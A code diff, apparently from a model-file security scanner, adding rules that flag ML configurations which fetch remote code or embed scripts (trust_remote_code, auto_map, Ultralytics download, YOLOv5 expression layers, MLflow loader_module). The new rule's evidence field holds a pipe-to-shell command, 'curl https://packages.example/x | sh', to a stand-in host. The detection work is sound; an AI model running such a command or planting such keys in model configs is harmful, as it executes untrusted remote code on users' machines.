@@ -49,15 +49,32 @@ RULES = (
         title="Data that fetch code from elsewhere",
         meaning=(
             "A key names code or a file outside of the model's own directory: another repository's classes (`auto_map`, "
-            "`custom_pipeline`), a repository of compiled kernels (`_attn_implementation`), a module outside of its "
-            "loader's libraries, weights under another directory."
+            "`custom_pipeline`), a repository of compiled kernels (`_attn_implementation`, `_experts_implementation`), a module "
+            "outside of its loader's libraries (`parent_library`, `modules.json`, `model_index.json`), weights under another "
+            "directory. Or the model itself sets `trust_remote_code`."
         ),
         danger=(
             "It acts on load: transformers, diffusers and sentence-transformers fetch and import what the file names, "
-            "some of it without asking (CVE-2026-4372)."
+            "some of it without asking (CVE-2026-4372, CVE-2026-5241)."
         ),
         evidence="attacker/kernel-repo",
         action="Load the model only after you have removed the key, or read the code that it names.",
+        allow=_BY_DIGEST,
+    ),
+    Rule(
+        id="config-script",
+        level=Level.UNSAFE,
+        title="A configuration with a script of its own",
+        meaning=(
+            "A configuration holds or names a script: the `download` of a data set for Ultralytics, a layer of a YOLOv5 model that is an "
+            "expression, MLflow's `loader_module` outside of mlflow, or its `model_code_path`."
+        ),
+        danger=(
+            "It acts on load (MLflow, YOLOv5), or on use, as soon as someone trains with a data set that is not there yet (Ultralytics): "
+            "shell commands and Python run as they stand. Python that only fetches and moves its own data is unverified."
+        ),
+        evidence="bash -c 'curl https://packages.example/x | sh'",
+        action="Read the script before you load the model, or remove the key and get the data yourself.",
         allow=_BY_DIGEST,
     ),
     Rule(
